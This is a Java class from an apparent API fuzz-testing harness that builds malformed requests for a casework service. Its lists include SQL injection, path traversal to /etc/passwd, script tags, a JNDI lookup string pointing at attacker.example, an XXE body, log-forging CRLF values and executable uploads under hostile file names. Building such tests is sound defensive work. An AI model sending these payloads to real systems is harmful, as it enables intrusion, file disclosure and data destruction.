package org.casework.system;

import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * Malformed requests for one documented operation, each wrong in exactly one thing the operation
 * reads (a path parameter, a documented query parameter, a header, the body as a whole, or one field
 * of it) and otherwise the valid request of {@link ValidRequests} for a real resource, so that the
 * hostile value is what the service judges. A field gets only values its documented schema rules out
 * (wrong kind, control characters, lone surrogates, over its length, outside its range, pattern,
 * format or enum, null where required): text that is merely alarming ("<script>", SQL) is valid in a
 * free-text field and is not expected to be refused there.
 */
final class HostileRequests {

    /** A request as sent: what it tries, the bytes, and the body field it spoils (null for none). */
    record Hostile(ApiOperations.Operation op, String label, String pathAndQuery, String contentType, byte[] body,
            Map<String, String> headers, List<String> fields) {
    }

    /** One body field replaced by one value (JSON text; null removes the field). */
    record Mutation(List<String> path, String value) {
    }

    static final String FORGED = "FORGED-LOG-LINE";
    private static final String LONG = "A".repeat(5_000);
    private static final ObjectMapper JSON = new ObjectMapper();
    /** Escapes everything outside ASCII, so a lone surrogate reaches the service as the escape that carries it. */
    private static final com.fasterxml.jackson.databind.ObjectWriter ESCAPING = JSON.writer()
            .with(com.fasterxml.jackson.core.json.JsonWriteFeature.ESCAPE_NON_ASCII.mappedFeature());
    private static final Pattern PARAM = Pattern.compile("\\{[^}]+}");

    /** Path segments, URL-encoded as a client would send them. */
    private static final List<String> PATH_VALUES = List.of("not-a-uuid", "00000000-0000-0000-0000-000000000000",
            "..%2F..%2Fetc%2Fpasswd", "%2e%2e", "%27%20OR%20%271%27%3D%271", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", LONG, "-1",
            "99999999999999999999", "%00", "%0d%0a" + FORGED, "%1b%5b2J", "%ff%fe", "%25", "1%3B%20DROP%20TABLE%20cases");

    /** Query values, URL-encoded. */
    private static final List<String> QUERY_VALUES = List.of("abc", "-1", "0", "99999999999999999999", "1e400",
            "%27%20OR%201%3D1--", "%3Cscript%3E", "%00", LONG, "%ff", "..%2F..%2F", "%5B%5D", "true", "2024-02-30",
            "%0d%0a" + FORGED, "%1b%5b31m", "%E2%80%AE", "NaN", "-0.5");

    /** Whole bodies that are not a request at all. */
    private static final List<byte[]> RAW_BODIES = List.of(bytes(""), bytes("{"), bytes("[]"), bytes("null"), bytes("\"text\""),
            bytes("12345"), bytes("{\"a\":}"), bytes("{\"a\":1,\"a\":2"), bytes("{\"x\": NaN}"),
            bytes("[".repeat(5_000) + "]".repeat(5_000)), bytes("{\"x\":" + "{\"x\":".repeat(3_000) + "1" + "}".repeat(3_001)),
            new byte[] { '{', '"', 'x', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}' },
            new byte[] { (byte) 0xFF, (byte) 0xFE, 0, 0 }, bytes("{\"x\":\"" + "B".repeat(2_000_000) + "\"}"),
            bytes("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"));

    /** Text that no field of any kind accepts: control characters, a lone surrogate. */
    private static final List<String> UNSAFE_TEXT = List.of("\"\\u0000\"", "\"\\ud800\"", "\"\\u001b[2J\"", "\"a\\u0085b\"",
            "\"tab\\u0008back\"");

    /** Alarming text, refused only where a field's format, pattern or enum rules it out. */
    private static final List<String> ALARMING = List.of("' OR '1'='1", "<script>alert(1)</script>", "../../etc/passwd",
            "${jndi:ldap://attacker.example/a}", "{{7*7}}", "%s%s%n", "0000-00-00", "2024-02-30", "\u202e", "",
            "-99999999999999999999999999999.99", "line\r\n" + FORGED + " forged", "\uD83D\uDE00");

    private HostileRequests() {
    }

    static List<Hostile> of(ApiOperations.Operation op, String filledPath, ValidRequests.Template template) {
        List<Hostile> all = new ArrayList<>();
        String path = template == null ? filledPath : template.path();
        String type = ApiCall.contentTypeHeader(op.bodyType());
        byte[] body = template == null || template.body() == null ? ApiCall.emptyBody(op.bodyType()) : bytes(serialize(template.body()));
        Map<String, String> headers = template == null ? Map.of() : template.headers();
        List<int[]> params = new ArrayList<>();
        Matcher m = PARAM.matcher(op.path());
        while (m.find()) {
            params.add(new int[] { m.start(), m.end() });
        }
        for (int i = 0; i < params.size(); i++) {
            for (String value : PATH_VALUES) {
                if (op.method().equals("PUT") && isUuid(value)) {
                    continue; // PUT creates what it names: a well-formed id is not hostile there
                }
                all.add(new Hostile(op, "path " + (i + 1) + " = " + abbreviate(value), withParam(op.path(), path, i, value), type, body,
                        headers, null));
            }
        }
        for (String q : op.queryParams()) {
            for (String value : QUERY_VALUES) {
                all.add(new Hostile(op, "?" + q + "=" + abbreviate(value), path + "?" + q + "=" + value, type, body, headers, null));
            }
        }
        for (String header : op.headerParams()) {
            boolean required = headers.containsKey(header);
            for (String value : headerValues(header, required)) {
                Map<String, String> h = new LinkedHashMap<>(headers);
                h.put(header, value);
                all.add(new Hostile(op, header + ": " + abbreviate(value), path, type, body, h, null));
            }
        }
        if (template != null && template.body() != null) {
            String jsonType = op.bodyType();
            for (byte[] raw : RAW_BODIES) {
                all.add(new Hostile(op, "body " + abbreviate(new String(raw, 0, Math.min(raw.length, 30), StandardCharsets.UTF_8)),
                        path, jsonType, raw, headers, null));
            }
            for (String wrongType : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data")) {
                all.add(new Hostile(op, "content type " + wrongType, path, wrongType, body, headers, null));
            }
            for (Mutation mutation : mutations(op, template.body())) {
                all.add(mutated(op, template, List.of(mutation)));
            }
        }
        if (op.hasBody() && op.bodyType().startsWith("multipart/")) {
            all.addAll(multipart(op, path));
        }
        return all;
    }

    /** Every single-field mutation the schema rules out, for a template body. */
    static List<Mutation> mutations(ApiOperations.Operation op, JsonNode body) {
        List<Mutation> out = new ArrayList<>();
        walk(op, body, resolve(op.document(), op.bodySchema()), new ArrayList<>(), out);
        out.add(new Mutation(List.of("unexpectedField"), "\"x\""));
        return out;
    }

    private static void walk(ApiOperations.Operation op, JsonNode node, JsonNode schema, List<String> path, List<Mutation> out) {
        if (node.isObject()) {
            List<String> required = new ArrayList<>();
            schema.path("required").forEach(r -> required.add(r.asText()));
            for (Iterator<Map.Entry<String, JsonNode>> it = node.fields(); it.hasNext();) {
                var e = it.next();
                List<String> p = append(path, e.getKey());
                JsonNode s = resolve(op.document(), schema.path("properties").path(e.getKey()));
                for (String v : refused(e.getValue(), s)) {
                    out.add(new Mutation(p, v));
                }
                if (required.contains(e.getKey())) {
                    out.add(new Mutation(p, "null"));
                    out.add(new Mutation(p, null));
                }
                walk(op, e.getValue(), s, p, out);
            }
        } else if (node.isArray() && !node.isEmpty()) {
            List<String> p = append(path, "0");
            JsonNode s = resolve(op.document(), schema.path("items"));
            for (String v : refused(node.get(0), s)) {
                out.add(new Mutation(p, v));
            }
            walk(op, node.get(0), s, p, out);
        }
    }

    /** The values (JSON text) a field with this valid value and schema must refuse. */
    static List<String> refused(JsonNode valid, JsonNode schema) {
        List<String> out = new ArrayList<>();
        String type = typeOf(schema, valid);
        if (!type.equals("object")) {
            out.add("{\"x\":1}");
        }
        if (!type.equals("array")) {
            out.add("[1,2,3]");
        }
        switch (type) {
            case "string" -> {
                out.addAll(UNSAFE_TEXT);
                if (schema.has("maxLength")) {
                    out.add("\"" + "C".repeat(schema.get("maxLength").asInt() + 1) + "\"");
                }
                for (String alarming : ALARMING) {
                    if (outside(alarming, schema)) {
                        out.add(text(alarming));
                    }
                }
            }
            case "integer", "number" -> {
                out.addAll(List.of("\"abc\"", "\"<script>\"", "true"));
                if (type.equals("integer")) {
                    out.add("99999999999999999999999");
                }
                if (schema.has("minimum")) {
                    out.add(schema.get("minimum").decimalValue().subtract(java.math.BigDecimal.ONE).toPlainString());
                }
                if (schema.has("maximum")) {
                    out.add(schema.get("maximum").decimalValue().add(java.math.BigDecimal.ONE).toPlainString());
                }
            }
            case "boolean" -> out.addAll(List.of("\"maybe\"", "\"' OR '1'='1\""));
            case "array" -> out.addAll(List.of("\"text\"", "{\"x\":1}"));
            default -> out.addAll(List.of("\"text\"", "123"));
        }
        return out;
    }

    /** The schema's type ("type": "string", or ["string", "null"] for a nullable one), else the valid value's kind. */
    private static String typeOf(JsonNode schema, JsonNode valid) {
        JsonNode type = schema.path("type");
        if (type.isTextual()) {
            return type.asText();
        }
        for (JsonNode t : type) {
            if (!t.asText().equals("null")) {
                return t.asText();
            }
        }
        return valid.isTextual() ? "string" : valid.isIntegralNumber() ? "integer" : valid.isNumber() ? "number"
                : valid.isBoolean() ? "boolean" : valid.isArray() ? "array" : "object";
    }

    /** Whether text is ruled out by a string schema's enum, format or pattern (free text rules out none). */
    private static boolean outside(String text, JsonNode schema) {
        if (schema.has("enum")) {
            for (JsonNode e : schema.get("enum")) {
                if (e.asText().equals(text)) {
                    return false;
                }
            }
            return true;
        }
        String format = schema.path("format").asText("");
        if (format.equals("date")) {
            try {
                LocalDate.parse(text);
                return false;
            } catch (RuntimeException e) {
                return true;
            }
        }
        if (format.equals("uuid")) {
            return !isUuid(text);
        }
        if (schema.has("pattern")) {
            String pattern = schema.get("pattern").asText();
            // "\S" is how the document spells @NotBlank (anywhere a visible character); every other pattern
            // comes from @Pattern, which must match the whole value
            return pattern.equals("\\S") ? text.isBlank() : !Pattern.compile(pattern).matcher(text).matches();
        }
        return false;
    }

    /** The template with each mutation applied (a field replaced, or removed when its value is null). */
    static Hostile mutated(ApiOperations.Operation op, ValidRequests.Template template, List<Mutation> mutations) {
        JsonNode body = template.body().deepCopy();
        List<String> labels = new ArrayList<>();
        List<String> fields = new ArrayList<>();
        for (Mutation mutation : mutations) {
            JsonNode parent = body;
            List<String> p = mutation.path();
            for (String segment : p.subList(0, p.size() - 1)) {
                parent = parent.isArray() ? parent.get(Integer.parseInt(segment)) : parent.get(segment);
            }
            String last = p.get(p.size() - 1);
            JsonNode value = mutation.value() == null ? null : parse(mutation.value());
            if (parent instanceof ObjectNode o) {
                if (value == null) {
                    o.remove(last);
                } else {
                    o.set(last, value);
                }
            } else if (parent instanceof ArrayNode a) {
                a.set(Integer.parseInt(last), value);
            }
            String field = String.join(".", p);
            fields.add(field);
            labels.add(field + (mutation.value() == null ? " removed" : " = " + abbreviate(mutation.value())));
        }
        return new Hostile(op, String.join(", ", labels), template.path(), op.bodyType(), bytes(serialize(body)), template.headers(),
                fields);
    }

    /** A value no field accepts and no one would type: random characters around a forced control character. */
    static String junk(Random random) {
        StringBuilder sb = new StringBuilder();
        int length = 1 + random.nextInt(40);
        char[] pool = { 'a', 'Z', '9', ' ', '"', '\\', '\'', '<', '>', '{', '}', '$', '%', '\n', '\r', '\t', '\u0000', '\u001b', '\u007f',
                '\u0085', '\u2028', '\u202e', '\uD83D', '\uDE00', '\u00e9', '\uFFFF' };
        for (int i = 0; i < length; i++) {
            sb.append(pool[random.nextInt(pool.length)]);
        }
        sb.insert(random.nextInt(sb.length() + 1), (char) random.nextInt(0x09));
        return serialize(sb.toString());
    }

    static String serialize(Object value) {
        try {
            return ESCAPING.writeValueAsString(value);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static List<String> headerValues(String header, boolean required) {
        if (header.equalsIgnoreCase("Idempotency-Key")) {
            return List.of("", " ", LONG, "\u00e9t\u00e9", "two words");
        }
        if (header.equalsIgnoreCase("If-Match")) {
            List<String> tags = List.of("W/\"1\"", "\"-1\"", "\"999999\", W/\"x\"", LONG, "\u00e9t\u00e9", "\"" + FORGED + "\"");
            // an optional If-Match left blank is no If-Match at all
            return required ? concat(List.of("", " "), tags) : tags;
        }
        return List.of();
    }

    /** Portal uploads: broken multipart, hostile statements, executables under hostile names. */
    private static List<Hostile> multipart(ApiOperations.Operation op, String path) {
        List<Hostile> all = new ArrayList<>();
        String b = ApiCall.BOUNDARY;
        String type = op.bodyType() + "; boundary=" + b;
        String pdf = file("evidence.pdf", "%PDF-1.7\n%%EOF\n");
        all.add(new Hostile(op, "multipart without boundary", path, op.bodyType(), bytes("--x\r\n\r\n"), Map.of(), null));
        all.add(new Hostile(op, "multipart cut short", path, type, bytes("--" + b + "\r\nContent-Disposition: form-data; name=\"statement\"\r\n\r\nhalf"), Map.of(), null));
        all.add(new Hostile(op, "multipart empty", path, type, bytes("--" + b + "--\r\n"), Map.of(), null));
        for (String name : List.of("../../etc/passwd", "..\\\\..\\\\windows\\\\win.ini", "a\u0000.pdf", "%2e%2e%2fx.pdf",
                "evil.pdf\r\n" + FORGED, "<script>.pdf", "C".repeat(5_000) + ".pdf", "x.exe", "")) {
            all.add(new Hostile(op, "executable named " + abbreviate(name), path, type,
                    bytes(statement("We object.") + file(name, "MZ\u0090\u0000binary") + "--" + b + "--\r\n"), Map.of(), null));
        }
        for (String bad : List.of("\u0000", "\u001b[2J", "x".repeat(100_001), "\uFFFE\u0001", "")) {
            all.add(new Hostile(op, "statement " + abbreviate(bad), path, type, bytes(statement(bad) + pdf + "--" + b + "--\r\n"),
                    Map.of(), null));
        }
        return all;
    }

    private static String statement(String text) {
        return "--" + ApiCall.BOUNDARY + "\r\nContent-Disposition: form-data; name=\"statement\"\r\n\r\n" + text + "\r\n";
    }

    private static String file(String name, String content) {
        return "--" + ApiCall.BOUNDARY + "\r\nContent-Disposition: form-data; name=\"files\"; filename=\"" + name + "\"\r\n"
                + "Content-Type: application/pdf\r\n\r\n" + content + "\r\n";
    }

    static JsonNode resolve(JsonNode doc, JsonNode schema) {
        JsonNode s = schema == null ? JSON.createObjectNode() : schema;
        for (int i = 0; i < 5; i++) {
            if (s.has("$ref")) {
                s = ApiOperations.resolve(doc, s.get("$ref").asText());
            } else if (s.has("allOf") && s.get("allOf").size() == 1) {
                s = s.get("allOf").get(0);
            } else {
                break;
            }
        }
        return s;
    }

    private static String withParam(String template, String filled, int index, String value) {
        String[] t = template.split("/");
        String[] f = filled.split("/");
        int seen = -1;
        for (int i = 0; i < t.length; i++) {
            if (t[i].startsWith("{") && ++seen == index) {
                f[i] = value;
            }
        }
        return String.join("/", f);
    }

    private static boolean isUuid(String s) {
        try {
            return UUID.fromString(s).toString().equalsIgnoreCase(s);
        } catch (RuntimeException e) {
            return false;
        }
    }

    private static JsonNode parse(String json) {
        try {
            return JSON.readTree(json);
        } catch (Exception e) {
            throw new IllegalArgumentException(json, e);
        }
    }

    private static String text(String s) {
        return serialize(s);
    }

    private static List<String> append(List<String> path, String segment) {
        List<String> p = new ArrayList<>(path);
        p.add(segment);
        return p;
    }

    private static <T> List<T> concat(List<T> a, List<T> b) {
        List<T> out = new ArrayList<>(a);
        out.addAll(b);
        return out;
    }

    static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    static String abbreviate(String s) {
        String clean = s.replaceAll("[\\p{Cntrl}\\u0085\\u2028\\u2029]", "?");
        return clean.length() > 24 ? clean.substring(0, 24) + "…(" + s.length() + ")" : clean;
    }
}
